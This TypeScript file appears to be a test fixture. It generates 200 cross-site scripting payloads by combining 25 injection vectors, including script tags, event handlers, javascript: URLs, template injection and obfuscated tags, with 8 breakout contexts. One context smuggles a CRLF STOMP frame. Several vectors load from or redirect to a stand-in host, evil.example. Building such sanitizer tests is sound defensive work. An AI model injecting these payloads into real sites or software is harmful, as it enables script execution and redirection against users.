// Contains 200 texts that try to run a script. Each vector is used alone, and after text that would end an element, an
// attribute, a script, a comment or a style. Each one would set window.pwned, open a dialog, or send a request to another server.

const run = 'window.pwned=1;alert(1)';
const vectors = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<body onload="${run}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><button>x</button></form>`,
  `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
  `<template><script>${run}</script></template>`,
  `javascript:${run}`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `\u202e<script>${run}</script>`,
  `<scr\0ipt>${run}</scr\0ipt>`,
  `&lt;img src=x onerror=${run}&gt;`,
];
const contexts: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"><x>${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</pre></li></ol>${vector}`,
  (vector) => `--><!--${vector}`,
  (vector) => `</title></style></textarea>${vector}`,
  (vector) => `\r\n\r\nMESSAGE\nsubscription:sub-0\ndestination:/exchange/logs/\n\n${vector}`,
];

/** Each vector in each context: 25 × 8. */
export const payloads: readonly string[] = contexts.flatMap((put) => vectors.map(put));
